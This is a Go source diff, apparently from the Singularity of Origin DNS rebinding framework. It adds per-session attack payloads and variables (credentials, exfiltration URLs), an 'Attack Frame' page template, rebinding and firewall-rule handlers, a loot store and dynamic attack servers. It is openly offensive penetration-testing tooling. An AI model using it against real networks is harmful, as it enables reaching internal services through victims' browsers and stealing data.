+	defer pth.Unlock()
+
+	expired := pth.CacheSeconds > 0 &&
+		time.Since(pth.cachedAt) > time.Duration(pth.CacheSeconds)*time.Second
+
+	if pth.Watcher != nil && pth.template != nil && pth.Watcher.Changes() != pth.watchedChanges {
+		logEvent(LogInfo, "HTTP", nil, "payload files changed")
+		expired = true
+	}
+
+	if pth.template == nil || expired {
+		// changes seen while reading the files rebuild the payloads again
+		if pth.Watcher != nil {
+			pth.watchedChanges = pth.Watcher.Changes()
+		}
+		t, err := template.New("webpage").Parse(tpl)
+		if err != nil {
+			return nil, nil, err
+		}
+		pth.template = t
+		pth.jsCode = concatenateJS(pth.Assets, "payloads")
+		pth.cachedAt = time.Now()
+	}
+
+	return pth.template, pth.jsCode, nil
 }
 
 type templatePayloadData struct {
 	JavaScriptCode template.JS
+	Payload        string            // payload run for the session instead of the requested one
+	Variables      map[string]string // operator-provided values exposed to payloads as PayloadVariables
+	TargetPort     int               // port of the target service exposed to payloads as TargetPort
+	// Seconds between rebinding checks of an attack frame opened without manager,
+	// exposed as AttackInterval. Such frames wait for the manager if 0.
+	Interval int
+}
+
+// SessionPayloadStore associates a payload name with a DNS session
+// so that its attack frame runs this payload only,
+// and variables substituted into the payloads of a session,
+// e.g. a target port, credentials to try or an exfiltration URL.
+// Sessions of attacks launched with the attacks API also have the interval
+// of their attack frame, which then starts without manager.
+// Must use mutex to access.
+type SessionPayloadStore struct {
+	sync.RWMutex
+	Payloads  map[string]string
+	Variables map[string]map[string]string
+	Intervals map[string]int
+}
+
+// NewSessionPayloadStore returns an empty session payload store
+func NewSessionPayloadStore() *SessionPayloadStore {
+	return &SessionPayloadStore{Payloads: make(map[string]string),
+		Variables: make(map[string]map[string]string), Intervals: make(map[string]int)}
+}
+
+// Get returns the payload configured for a session, if any
+func (sps *SessionPayloadStore) Get(session string) (string, bool) {
+	if sps == nil {
+		return "", false
+	}
+	sps.RLock()
+	defer sps.RUnlock()
+	payload, ok := sps.Payloads[session]
+	return payload, ok
+}
+
+// Set configures the payload of a session
+func (sps *SessionPayloadStore) Set(session string, payload string) {
+	sps.Lock()
+	sps.Payloads[session] = payload
+	sps.Unlock()
+}
+
+// GetVariables returns a copy of the payload variables configured for a session
+func (sps *SessionPayloadStore) GetVariables(session string) map[string]string {
+	variables := make(map[string]string)
+	if sps == nil {
+		return variables
+	}
+	sps.RLock()
+	defer sps.RUnlock()
+	for name, value := range sps.Variables[session] {
+		variables[name] = value
+	}
+	return variables
+}
+
+// SetVariables configures the payload variables of a session
+func (sps *SessionPayloadStore) SetVariables(session string, variables map[string]string) {
+	sps.Lock()
+	sps.Variables[session] = variables
+	sps.Unlock()
+}
+
+// GetInterval returns the attack frame interval configured for a session, 0 if none
+func (sps *SessionPayloadStore) GetInterval(session string) int {
+	if sps == nil {
+		return 0
+	}
+	sps.RLock()
+	defer sps.RUnlock()
+	return sps.Intervals[session]
+}
+
+// SetInterval configures the attack frame interval of a session
+func (sps *SessionPayloadStore) SetInterval(session string, interval int) {
+	sps.Lock()
+	if sps.Intervals == nil {
+		sps.Intervals = make(map[string]int)
+	}
+	sps.Intervals[session] = interval
+	sps.Unlock()
+}
+
+// Delete removes the payload, variables and interval configured for a session
+func (sps *SessionPayloadStore) Delete(session string) {
+	sps.Lock()
+	delete(sps.Payloads, session)
+	delete(sps.Variables, session)
+	delete(sps.Intervals, session)
+	sps.Unlock()
+}
+
+type sessionPayload struct {
+	Session   string
+	Payload   string
+	Variables map[string]string `json:",omitempty"`
+}
+
+// SessionPayloadHandler is a HTTP handler for operators
+// to list (GET), set (PUT) and remove (DELETE) per session payloads and variables.
+// PUT sets the payload and the variables of a session if present in the request.
+// It requires the AuthToken.
+type SessionPayloadHandler struct {
+	hss *HTTPServerStoreHandler
+}
+
+func (sph *SessionPayloadHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	logHTTPRequest(r)
+
+	w.Header().Set("Content-Type", "application/json; charset=UTF-8")
+
+	emptyResponse, _ := json.Marshal(sessionPayload{})
+	emptyResponseStr := string(emptyResponse)
+	sps := sph.hss.SessionPayloads
+
+	if sps == nil {
+		http.Error(w, emptyResponseStr, http.StatusNotFound)
+		return
+	}
+
+	if !sph.hss.authorized(r) {
+		logEvent(LogWarn, "HTTP", httpRequestFields(r), "unauthorized request to /sessionpayloads from %v", r.RemoteAddr)
+		w.Header().Set("WWW-Authenticate", `Basic realm="singularity"`)
+		http.Error(w, emptyResponseStr, http.StatusUnauthorized)
+		return
+	}
+
+	op := sph.hss.requestOperator(r)
+	switch r.Method {
+	case "GET":
+		payloads := make([]sessionPayload, 0)
+		sps.RLock()
+		for session, payload := range sps.Payloads {
+			if op.owns(session) {
+				payloads = append(payloads, sessionPayload{Session: session, Payload: payload,
+					Variables: sps.Variables[session]})
+			}
+		}
+		for session, variables := range sps.Variables {
+			if _, ok := sps.Payloads[session]; !ok && op.owns(session) {
+				payloads = append(payloads, sessionPayload{Session: session, Variables: variables})
+			}
+		}
+		sps.RUnlock()
+		sort.Slice(payloads, func(i, j int) bool { return payloads[i].Session < payloads[j].Session })
+
+		s, err := json.Marshal(payloads)
+		if err != nil {
+			http.Error(w, emptyResponseStr, 500)
+			return
+		}
+		fmt.Fprintf(w, "%v", string(s))
+
+	case "PUT", "DELETE":
+		body, err := sph.hss.readRequestBody(r)
+		if err == errRequestBodyTooLarge {
+			http.Error(w, emptyResponseStr, http.StatusRequestEntityTooLarge)
+			return
+		}
+		if err != nil {
+			http.Error(w, emptyResponseStr, 400)
+			return
+		}
+
+		var sp sessionPayload
+		if err := json.Unmarshal(body, &sp); err != nil || sp.Session == "" {
+			http.Error(w, emptyResponseStr, 400)
+			return
+		}
+		if !op.owns(sp.Session) {
+			http.Error(w, emptyResponseStr, http.StatusForbidden)
+			return
+		}
+
+		if r.Method == "DELETE" {
+			sps.Delete(sp.Session)
+		} else {
+			if sp.Payload == "" && sp.Variables == nil {
+				http.Error(w, emptyResponseStr, 400)
+				return
+			}
+			if sp.Payload != "" {
+				sps.Set(sp.Session, sp.Payload)
+			}
+			if sp.Variables != nil {
+				sps.SetVariables(sp.Session, sp.Variables)
+			}
+		}
+
+		s, err := json.Marshal(sp)
+		if err != nil {
+			http.Error(w, emptyResponseStr, 400)
+			return
+		}
+		fmt.Fprintf(w, "%v", string(s))
+
+	default:
+		http.Error(w, emptyResponseStr, 400)
+		return
+	}
 }
 
 // HTTPServerStoreHandler holds the list of HTTP servers
-// Many servers at startup and one (1) dynamically instantianted server
+// Many servers at startup and a pool of dynamically instantianted servers
+// (AppConfig.DynamicHTTPServersPoolSize)
 // Access to the servers list must be performed via mutex
 type HTTPServerStoreHandler struct {
 	Errc                    chan HTTPServerError // communicates http server errors
@@ -402,15 +1857,162 @@ type HTTPServerStoreHandler struct {
 	Wscss                 *WebsocketClientStateStore
 	WsHTTPProxyServerPort int
 	AuthToken             string
+	RateLimiter           *RateLimiter // limits dynamic HTTP server requests
+	// Deprecated: management endpoints require AuthToken unless DisableAdminAuth is set
+	ProtectServersEndpoint bool
+	DNSServerRunning       bool        // reported by /healthz
+	AppConfig              *AppConfig  // settings used to configure new HTTP servers
+	TLSConfig              *tls.Config // used by HTTPS servers, nil if HTTPS is not configured
+	tlsServers             map[*http.Server]bool
+	SessionPayloads        *SessionPayloadStore // payloads selected per DNS session
+	// HTTP/3 servers on the UDP port of HTTPS servers
+	http3Servers map[*http.Server]*http3Server
+	// Outcomes of multiple A records firewall rule changes, if set
+	Firewallc chan FirewallRuleResult
+	// Reloads AppConfig, e.g. from the configuration file, if set
+	ReloadConfig func() error
+	// Data captured by payloads, served by /api/loot if set
+	Loot *LootStore
+	// Start time of dynamic servers, to stop the oldest one on a full pool
+	dynamicStarted map[*http.Server]time.Time
+	// DNS session which requested a dynamic server, if any
+	dynamicOwners map[*http.Server]string
+	// Operator which started a dynamic server or owns its session, if any
+	dynamicOperators map[*http.Server]string
+	// Serve the management endpoints without AuthToken, unless operators are configured
+	DisableAdminAuth bool
+	// Watches the payloads of HTMLDir, shared by the HTTP servers
+	payloadWatcherOnce sync.Once
+	payloadWatch       *PayloadWatcher
+}
+
+// payloadWatcher returns the watcher of the payloads of htmlDir,
+// nil if payloads are embedded or cannot be watched
+func (hss *HTTPServerStoreHandler) payloadWatcher(htmlDir string) *PayloadWatcher {
+	if htmlDir == "" {
+		return nil
+	}
+	hss.payloadWatcherOnce.Do(func() {
+		pw, err := NewPayloadWatcher(filepath.Join(htmlDir, "payloads"))
+		if err != nil {
+			logEvent(LogWarn, "HTTP", nil, "could not watch payload files for changes: %v", err)
+			return
+		}
+		hss.payloadWatch = pw
+	})
+	return hss.payloadWatch
+}
+
+// appConfig returns a snapshot of the settings of HTTP servers,
+// the default settings if AppConfig is not set
+func (hss *HTTPServerStoreHandler) appConfig() *AppConfig {
+	if hss.AppConfig == nil {
+		return &AppConfig{}
+	}
+	return hss.AppConfig.snapshot()
+}
+
+// RebindHandler is a HTTP handler arming the DNS session of the request host
+// so that the manual strategy starts answering with the rebound host.
+type RebindHandler struct {
+	dcss         *DNSClientStateStore
+	sessionKeyFn func(name *DNSQuery, remote net.Addr) string
+}
+
+// HealthHandler is a HTTP handler reporting whether Singularity is ready
+// to serve clients. It is meant for liveness/readiness probes.
+type HealthHandler struct {
+	hss *HTTPServerStoreHandler
+}
+
+type healthStatus struct {
+	DNSServerRunning bool
+	StaticServers    int
 }
 
 // IPTablesHandler is a HTTP handler that adds/removes iptables rules
 // if the DNS rebinding strategy is to respond with multiple A records.
+// RuleDurationSeconds defaults to 10 seconds when not set.
+// FirewallBackend selects the firewall, iptables by default or the first available with "auto".
+// FirewallDryRun logs firewall rules instead of applying them.
+// SourcePortRange restricts rules to the browser source ports from its connection port
+// to port+SourcePortRange, all source ports match if 0.
+// Requests may override both with the firewallRuleDuration (s)
+// and firewallSourcePortRange query parameters, e.g. for slow targets or NATed clients.
 type IPTablesHandler struct {
+	RuleDurationSeconds int
+	FirewallBackend     string
+	FirewallDryRun      bool
+	// Results receives the outcome of firewall rule changes if set
+	Results         chan<- FirewallRuleResult
+	SourcePortRange int
+	// Notify receives firewall webhook events if set
+	Notify func(event *RebindingEvent)
 }
 
+const defaultFirewallRuleDurationSeconds = 10
+
+// maxFirewallRuleDurationSeconds bounds the rule duration requested by browsers
+const maxFirewallRuleDurationSeconds = 300
+
+// ruleOptions returns the rule duration and source port range of a request,
+// overridden by its query parameters if valid.
+func (ipt *IPTablesHandler) ruleOptions(r *http.Request) (time.Duration, int) {
+	duration := ipt.ruleDuration()
+	srcPortRange := ipt.SourcePortRange
+	query := r.URL.Query()
+	if seconds, err := strconv.Atoi(query.Get("firewallRuleDuration")); err == nil &&
+		seconds > 0 && seconds <= maxFirewallRuleDurationSeconds {
+		duration = time.Duration(seconds) * time.Second
+	}
+	if portRange, err := strconv.Atoi(query.Get("firewallSourcePortRange")); err == nil &&
+		portRange >= 0 && portRange <= maxFirewallSourcePortRange {
+		srcPortRange = portRange
+	}
+	return duration, srcPortRange
+}
+
+// ruleDuration returns how long a firewall rule stays in place
+func (ipt *IPTablesHandler) ruleDuration() time.Duration {
+	ruleDurationSeconds := ipt.RuleDurationSeconds
+	if ruleDurationSeconds <= 0 {
+		ruleDurationSeconds = defaultFirewallRuleDurationSeconds
+	}
+	return time.Duration(ruleDurationSeconds) * time.Second
+}
+
+// hijackedConnTimeout bounds the lifetime of connections hijacked by IPTablesHandler
+const hijackedConnTimeout = time.Second * 10
+
 type httpServerInfo struct {
-	Port string
+	Port      string
+	Scheme    string // "http" or "https"
+	KeepAlive bool   `json:",omitempty"` // requested for dynamic servers only
+	Session   string `json:",omitempty"` // DNS session owning a dynamic server
+}
+
+// httpServerError is returned by /servers on failure.
+// Code is machine-readable, Message is meant for humans.
+type httpServerError struct {
+	Code    string `json:"code"`
+	Message string `json:"message"`
+}
+
+// writeServerError replies to a /servers request with a JSON error and status code
+func writeServerError(w http.ResponseWriter, status int, code string, message string) {
+	w.Header().Set("Content-Type", "application/json; charset=UTF-8")
+	w.Header().Set("X-Content-Type-Options", "nosniff")
+	w.WriteHeader(status)
+	json.NewEncoder(w).Encode(httpServerError{Code: code, Message: message})
+}
+
+// serverScheme returns the URL scheme served by an HTTP server
+// Must hold hss mutex.
+func (hss *HTTPServerStoreHandler) serverScheme(s *http.Server) string {
+	if hss.tlsServers[s] {
+		return "https"
+	}
+	return "http"
 }
 
 // HTTPServersConfig is a stucture that is returned
@@ -419,6 +2021,7 @@ type httpServerInfo struct {
 type HTTPServersConfig struct {
 	ServerInformation       []httpServerInfo
 	AllowDynamicHTTPServers bool
+	PayloadPath             string
 }
 
 // HTTP Handler for "/" - Add headers then calls next NextHandler()
@@ -429,20 +2032,42 @@ func (d *DefaultHeadersHandler) ServeHTTP(w http.ResponseWriter, r *http.Request
 	w.Header().Set("Expires", "0")                                         // Proxies
 	w.Header().Set("X-DNS-Prefetch-Control", "off")                        //Chrome
 	w.Header().Set("X-Singularity-Of-Origin", "t")
+	for name, value := range d.ExtraHeaders {
+		w.Header().Set(name, value)
+	}
 	d.NextHandler.ServeHTTP(w, r)
 }
 
+// HTTP Handler wrapping all routes - Rejects clients outside of the allowlist
+func (a *AllowedClientsHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	atomic.AddUint64(&metrics.httpRequests, 1)
+	if len(a.AllowedNets) > 0 {
+		host, _, err := net.SplitHostPort(r.RemoteAddr)
+		ip := net.ParseIP(host)
+		if err != nil || ip == nil || !addrInIPNetList(ip, a.AllowedNets) {
+			logEvent(LogWarn, "HTTP", httpRequestFields(r), "rejected %v %v from %v: not in allowed clients",
+				r.Method, r.RequestURI, r.RemoteAddr)
+			http.Error(w, "Forbidden", http.StatusForbidden)
+			return
+		}
+	}
+	a.NextHandler.ServeHTTP(w, r)
+}
+
 // HTTP Handler for "/clientinfo"
 func (hcih *HTTPClientInfoHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	log.Printf("HTTP: %v %v from %v", r.Method, r.RequestURI, r.RemoteAddr)
+	logHTTPRequest(r)
 
 	w.Header().Set("Content-Type", "application/json; charset=UTF-8")
 
-	emptyResponse, _ := json.Marshal(hcih)
-	splitted := strings.Split(r.RemoteAddr, ":")
-	hcih.IPAddress = splitted[0]
-	hcih.Port = splitted[1]
-	clientInfoResponse, _ := json.Marshal(hcih)
+	clientInfo := httpClientInfo{}
+	emptyResponse, _ := json.Marshal(clientInfo)
+	clientInfo.IPAddress, clientInfo.Port, _ = net.SplitHostPort(r.RemoteAddr)
+	if name, err := NewDNSQueryFromHost(r.Host); err == nil {
+		clientInfo.Session = name.Session
+		clientInfo.DNSRebindingStrategy = name.DNSRebindingStrategy
+	}
+	clientInfoResponse, _ := json.Marshal(clientInfo)
 
 	switch r.Method {
 	case "GET":
@@ -453,14 +2078,73 @@ func (hcih *HTTPClientInfoHandler) ServeHTTP(w http.ResponseWriter, r *http.Requ
 	}
 }
 
+// HTTP Handler for "/healthz"
+// Does not log nor set default headers to keep probes cheap and quiet.
+// Responds 503 if the DNS server or all HTTP servers are down.
+func (hh *HealthHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	status := healthStatus{}
+
+	hh.hss.RLock()
+	status.DNSServerRunning = hh.hss.DNSServerRunning
+	for _, server := range hh.hss.StaticServers {
+		if server != nil {
+			status.StaticServers++
+		}
+	}
+	hh.hss.RUnlock()
+
+	w.Header().Set("Content-Type", "application/json; charset=UTF-8")
+
+	if !status.DNSServerRunning || status.StaticServers == 0 {
+		w.WriteHeader(http.StatusServiceUnavailable)
+	}
+
+	json.NewEncoder(w).Encode(status)
+}
+
+// HTTP Handler for "/rebind"
+func (rh *RebindHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	logHTTPRequest(r)
+
+	if r.Method != "POST" {
+		http.Error(w, "Bad request", http.StatusBadRequest)
+		return
+	}
+
+	name, err := NewDNSQueryFromHost(r.Host)
+	if err != nil {
+		http.Error(w, "Bad request", http.StatusBadRequest)
+		return
+	}
+
+	key := sessionKey(rh.sessionKeyFn, name, httpRemoteAddr(r))
+	rh.dcss.Lock()
+	session := rh.dcss.Sessions[key]
+	if session != nil {
+		session.RebindArmed = true
+	}
+	rh.dcss.Unlock()
+
+	if session == nil {
+		http.Error(w, "Not found", http.StatusNotFound)
+		return
+	}
+
+	logEvent(LogInfo, "HTTP", httpRequestFields(r), "armed rebinding for session: %v", key)
+	w.WriteHeader(http.StatusNoContent)
+}
+
 //https://siongui.github.io/2016/03/06/go-concatenate-js-files/
-func concatenateJS(dirPath string) []byte {
+func concatenateJS(fsys fs.FS, dirPath string) []byte {
 	var jsCode []byte
 	// walk all files in directory
-	filepath.Walk(dirPath, func(path string, info os.FileInfo, err error) error {
-		if !info.IsDir() && strings.HasSuffix(info.Name(), ".js") {
-			log.Printf("HTTP: concatenating %v ...", path)
-			b, err := ioutil.ReadFile(path)
+	fs.WalkDir(fsys, dirPath, func(path string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		if !d.IsDir() && strings.HasSuffix(d.Name(), ".js") {
+			logEvent(LogDebug, "HTTP", nil, "concatenating %v ...", path)
+			b, err := fs.ReadFile(fsys, path)
 			if err != nil {
 				return err
 			}
@@ -471,16 +2155,20 @@ func concatenateJS(dirPath string) []byte {
 	return jsCode
 }
 
-// HTTP Handler for "/soopayload"
+// HTTP Handler for the payload path, "/soopayload.html" by default
 func (pth *PayloadTemplateHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	log.Printf("HTTP: %v %v from %v", r.Method, r.RequestURI, r.RemoteAddr)
+	logHTTPRequest(r)
 
 	const tpl = `<!doctype html>
-	<html><head><title>Attack Frame</title><script src="payload.js"></script>
+	<html><head><title>Attack Frame</title><script src="/payload.js"></script>
 	<script>
+	const PayloadVariables = {{ .Variables }};
+	const TargetPort = {{ .TargetPort }};
+	const AttackInterval = {{ .Interval }};
 	{{ .JavaScriptCode }}
 
 	function attack(payload, headers, cookie, body, wsproxyport) {
+		{{ if .Payload }}payload = {{ .Payload }};{{ end }}
 		const titleEl = document.getElementById('title');
 		if (payload === 'automatic') {
 			(async function loop() {
@@ -510,62 +2198,192 @@ func (pth *PayloadTemplateHandler) ServeHTTP(w http.ResponseWriter, r *http.Requ
 	<span id='payloadstatus'></span></p>
 	</body></html>`
 
-	t, err := template.New("webpage").Parse(tpl)
+	t, jsCode, err := pth.cachedPayload(tpl)
 	if err != nil {
-		log.Printf("PayloadTemplateHandler: could not parse template: %v\n", err)
+		logEvent(LogError, "HTTP", httpRequestFields(r), "could not parse payload template: %v", err)
 		http.Error(w, "Bad request", http.StatusBadRequest)
 		return
 	}
-	templateData := templatePayloadData{JavaScriptCode: template.JS(concatenateJS("html/payloads"))}
+	templateData := templatePayloadData{JavaScriptCode: template.JS(jsCode), Variables: map[string]string{},
+		TargetPort: requestPort(r)}
+	if name, err := NewDNSQueryFromHost(r.Host); err == nil {
+		if name.TargetPort > 0 {
+			templateData.TargetPort = name.TargetPort
+		}
+		session := sessionKey(pth.SessionKeyFn, name, httpRemoteAddr(r))
+		if payload, ok := pth.SessionPayloads.Get(session); ok {
+			logEvent(LogInfo, "HTTP", LogFields{"session": session}, "serving payload %v to session %v", payload, session)
+			templateData.Payload = payload
+		}
+		templateData.Variables = pth.SessionPayloads.GetVariables(session)
+		templateData.Interval = pth.SessionPayloads.GetInterval(session)
+	}
 	err = t.Execute(w, templateData)
 	if err != nil {
-		log.Printf("PayloadTemplateHandler: could not execute template: %v\n", err)
+		logEvent(LogError, "HTTP", httpRequestFields(r), "could not execute payload template: %v", err)
 		http.Error(w, "Bad request", http.StatusBadRequest)
 		return
 	}
 }
 
+// authorized checks whether a request carries the management token
+// or the token of an operator, either as a bearer token or as the basic auth password.
+// Requests are refused if no token is configured, unless DisableAdminAuth is set.
+func (hss *HTTPServerStoreHandler) authorized(r *http.Request) bool {
+	if hss.DisableAdminAuth && len(hss.operators()) == 0 {
+		return true
+	}
+	_, ok := hss.tokenOperator(requestToken(r))
+	return ok
+}
+
+// dynamicServerError is an error starting a dynamic HTTP server or launching an attack
+// with its HTTP status and /servers or /api/attacks error code
+type dynamicServerError struct {
+	status int
+	code   string
+	err    error
+}
+
+func (e *dynamicServerError) Error() string {
+	return e.err.Error()
+}
+
+// anonymousDynamicServerOwner owns the dynamic servers requested without token nor DNS session.
+// Like a session, it has its own quota and cannot evict the servers of others.
+// It is not a valid DNS session.
+const anonymousDynamicServerOwner = "*"
+
+// startDynamicServer starts a dynamic HTTP server on port with the scheme
+// and keep-alive setting of serverInfo, owned by serverInfo.Session if set,
+// by anonymousDynamicServerOwner for unprivileged requests without session,
+// and by op unless nil (the administrator).
+// Privileged requests carry the token of the administrator or of an operator.
+// If port is 0, the server listens on the first free port of AppConfig.DynamicHTTPServerPorts.
+// It sets the port and the default scheme of serverInfo.
+func (hss *HTTPServerStoreHandler) startDynamicServer(port int, serverInfo *httpServerInfo,
+	op *Operator, privileged bool) *dynamicServerError {
+	if (port != 0 || len(hss.appConfig().DynamicHTTPServerPorts) == 0) && !hss.dynamicPortAllowed(port) {
+		return &dynamicServerError{400, "port_not_allowed",
+			fmt.Errorf("port %v is not allowed for dynamic HTTP servers", port)}
+	}
+
+	switch serverInfo.Scheme {
+	case "", "http":
+		serverInfo.Scheme = "http"
+	case "https":
+		if hss.TLSConfig == nil {
+			return &dynamicServerError{400, "https_unavailable", errors.New("no TLS certificate is configured")}
+		}
+	default:
+		return &dynamicServerError{400, "bad_scheme", fmt.Errorf("invalid scheme %q", serverInfo.Scheme)}
+	}
+
+	session := serverInfo.Session
+	if session == "" && !privileged {
+		session = anonymousDynamicServerOwner
+	}
+
+	// the port is chosen, the quotas are checked and the server joins the pool
+	// in a single critical section so that concurrent requests cannot exceed
+	// the quotas nor pick the same port.
+	hss.Lock()
+	if port == 0 {
+		var err error
+		if port, err = hss.freeDynamicPort(); err != nil {
+			hss.Unlock()
+			logEvent(LogWarn, "HTTP", nil, "cannot start dynamic server: %v", err)
+			return &dynamicServerError{http.StatusServiceUnavailable, "no_free_port", err}
+		}
+	} else if err := hss.portConflict(port); err != nil {
+		hss.Unlock()
+		logEvent(LogWarn, "HTTP", LogFields{"port": port}, "cannot start dynamic server: %v", err)
+		return &dynamicServerError{http.StatusConflict, "port_conflict", err}
+	}
+	serverInfo.Port = strconv.Itoa(port)
+
+	replaced, oldest, err := hss.evictDynamicServers(port, session, op)
+	if err != nil {
+		hss.Unlock()
+		logEvent(LogWarn, "HTTP", LogFields{"port": port, "session": session},
+			"cannot start dynamic server on port %v for session %q: %v", port, session, err)
+		switch err {
+		case errSessionQuotaExceeded:
+			return &dynamicServerError{http.StatusTooManyRequests, "session_quota_exceeded", err}
+		case errOperatorQuotaExceeded:
+			return &dynamicServerError{http.StatusTooManyRequests, "operator_quota_exceeded", err}
+		case errDynamicPortOwned:
+			return &dynamicServerError{http.StatusConflict, "port_conflict", err}
+		default:
+			return &dynamicServerError{http.StatusServiceUnavailable, "pool_full", err}
+		}
+	}
+	// the server replaced on port must free it, the oldest server
+	// of a full pool is only stopped once the new server listens.
+	if replaced != nil {
+		StopHTTPServer(replaced, hss)
+	}
+
+	httpServer := NewHTTPServer(port, hss, hss.Dcss, hss.Wscss)
+	if serverInfo.Scheme == "https" {
+		httpServer.TLSConfig = hss.TLSConfig
+	}
+	if serverInfo.KeepAlive {
+		httpServer.SetKeepAlivesEnabled(true)
+		httpServer.IdleTimeout = 0
+	}
+	// owners are recorded with the reservation so that the server is never unowned
+	hss.addDynamicServer(httpServer)
+	if session != "" {
+		if hss.dynamicOwners == nil {
+			hss.dynamicOwners = make(map[*http.Server]string)
+		}
+		hss.dynamicOwners[httpServer] = session
+	}
+	if op != nil {
+		if hss.dynamicOperators == nil {
+			hss.dynamicOperators = make(map[*http.Server]string)
+		}
+		hss.dynamicOperators[httpServer] = op.Name
+	}
+	hss.Unlock()
+
+	if err := startHTTPServer(httpServer, hss, true, false, true); err != nil {
+		hss.Lock()
+		hss.releaseDynamicServer(httpServer)
+		StopHTTPServer(httpServer, hss)
+		if oldest != nil {
+			hss.restoreDynamicServer(oldest)
+		}
+		hss.Unlock()
+		return &dynamicServerError{400, "bind_failed", err}
+	}
+	if oldest != nil {
+		hss.Lock()
+		StopHTTPServer(oldest, hss)
+		hss.Unlock()
+	}
+	return nil
+}
+
 // HTTP Handler for /servers
 func (hss *HTTPServerStoreHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 
-	log.Printf("HTTP: %v %v from %v", r.Method, r.RequestURI, r.RemoteAddr)
+	logHTTPRequest(r)
 
 	w.Header().Set("Content-Type", "application/json; charset=UTF-8")
 
 	serverInfo := httpServerInfo{}
-	emptyResponse, _ := json.Marshal(serverInfo)
-	emptyResponseStr := string(emptyResponse)
-	serverInfos := make([]httpServerInfo, 0)
 
 	switch r.Method {
 	case "GET":
 
-		hss.RLock()
-		for _, server := range hss.StaticServers {
-			if server != nil {
-				staticServerInfo := httpServerInfo{}
-				staticServerInfo.Port = strings.Split(server.Addr, ":")[1]
-				serverInfos = append(serverInfos, staticServerInfo)
-			}
-		}
-		for _, server := range hss.DynamicServers {
-			if server != nil {
-				dynamicServerInfo := httpServerInfo{}
-				dynamicServerInfo.Port = strings.Split(server.Addr, ":")[1]
-				serverInfos = append(serverInfos, dynamicServerInfo)
-			}
-		}
-		hss.RUnlock()
-
-		myHTTPServersConfig := HTTPServersConfig{ServerInformation: serverInfos,
-			AllowDynamicHTTPServers: hss.AllowDynamicHTTPServers}
+		myHTTPServersConfig := hss.serversConfig(hss.requestOperator(r))
 
 		s, err := json.Marshal(myHTTPServersConfig)
 
-		println(string(s))
-
 		if err != nil {
-			http.Error(w, emptyResponseStr, 500)
+			writeServerError(w, 500, "internal_error", err.Error())
 			return
 		}
 
@@ -574,91 +2392,521 @@ func (hss *HTTPServerStoreHandler) ServeHTTP(w http.ResponseWriter, r *http.Requ
 	case "PUT":
 
 		if hss.AllowDynamicHTTPServers == false {
-			http.Error(w, emptyResponseStr, 400)
+			writeServerError(w, 400, "dynamic_servers_disabled", "dynamic HTTP servers are not allowed")
 			return
 		}
 
-		r.Body = http.MaxBytesReader(w, r.Body, 5000)
+		clientIP, _, err := net.SplitHostPort(r.RemoteAddr)
+		if err != nil {
+			clientIP = r.RemoteAddr
+		}
+		if !hss.RateLimiter.Allow(clientIP) {
+			logEvent(LogWarn, "HTTP", httpRequestFields(r), "too many dynamic HTTP server requests from %v", clientIP)
+			writeServerError(w, http.StatusTooManyRequests, "rate_limited", "too many dynamic HTTP server requests")
+			return
+		}
 
-		body, err := ioutil.ReadAll(r.Body)
+		body, err := hss.readRequestBody(r)
+		if err == errRequestBodyTooLarge {
+			writeServerError(w, http.StatusRequestEntityTooLarge, "body_too_large",
+				"request body exceeds the maximum size (MaxRequestBodyBytes)")
+			return
+		}
 		if err != nil {
-			http.Error(w, emptyResponseStr, 400)
+			writeServerError(w, 400, "bad_request", "could not read request body")
 			return
 		}
 
 		err = json.Unmarshal(body, &serverInfo)
 		if err != nil {
-			http.Error(w, emptyResponseStr, 400)
+			writeServerError(w, 400, "bad_json", "could not parse request body")
 			return
 		}
 
-		port, err := strconv.Atoi(serverInfo.Port)
+		// servers requested without port get a free port of DynamicHTTPServerPorts
+		var port int
+		if serverInfo.Port != "" || len(hss.appConfig().DynamicHTTPServerPorts) == 0 {
+			if port, err = strconv.Atoi(serverInfo.Port); err != nil {
+				writeServerError(w, 400, "bad_port", fmt.Sprintf("invalid port %q", serverInfo.Port))
+				return
+			}
+		}
+
+		// servers requested from the origin of a DNS session are owned by the session
+		// and stopped once it expires
+		session := hss.requestSession(r)
+		if session != "" && !hss.sessionExists(session) {
+			writeServerError(w, http.StatusForbidden, "unknown_session", fmt.Sprintf("no DNS session %q", session))
+			return
+		}
+		serverInfo.Session = session
+
+		// servers requested from the origin of a session without token belong to its operator
+		op := hss.requestOperator(r)
+		if session != "" && op != nil && op.Name == "" {
+			op = hss.sessionOperator(session)
+		}
+		if session != "" && !op.owns(session) {
+			writeServerError(w, http.StatusForbidden, "forbidden", fmt.Sprintf("DNS session %q is not yours", session))
+			return
+		}
+
+		_, privileged := hss.tokenOperator(requestToken(r))
+		if err := hss.startDynamicServer(port, &serverInfo, op, privileged); err != nil {
+			writeServerError(w, err.status, err.code, err.Error())
+			return
+		}
+
+		s, err := json.Marshal(serverInfo)
 		if err != nil {
-			http.Error(w, emptyResponseStr, 400)
+			writeServerError(w, 400, "internal_error", err.Error())
 			return
 		}
 
-		hss.Lock()
-		if hss.DynamicServers[0] != nil {
-			StopHTTPServer(hss.DynamicServers[0], hss)
-			hss.DynamicServers[0] = nil
+		fmt.Fprintf(w, "%v", string(s))
+
+	case "DELETE":
+
+		// stopping servers is reserved to operators
+		if !hss.authorized(r) {
+			logEvent(LogWarn, "HTTP", httpRequestFields(r), "unauthorized request to stop server from %v", r.RemoteAddr)
+			writeServerError(w, http.StatusUnauthorized, "unauthorized", "missing or invalid token")
+			return
+		}
+
+		body, err := hss.readRequestBody(r)
+		if err == errRequestBodyTooLarge {
+			writeServerError(w, http.StatusRequestEntityTooLarge, "body_too_large",
+				"request body exceeds the maximum size (MaxRequestBodyBytes)")
+			return
+		}
+		if err != nil {
+			writeServerError(w, 400, "bad_request", "could not read request body")
+			return
 		}
-		hss.Unlock()
 
-		httpServer := NewHTTPServer(port, hss, hss.Dcss, hss.Wscss)
-		httpServerErr := StartHTTPServer(httpServer, hss, true, false)
+		err = json.Unmarshal(body, &serverInfo)
+		if err != nil {
+			writeServerError(w, 400, "bad_json", "could not parse request body")
+			return
+		}
 
-		if httpServerErr != nil {
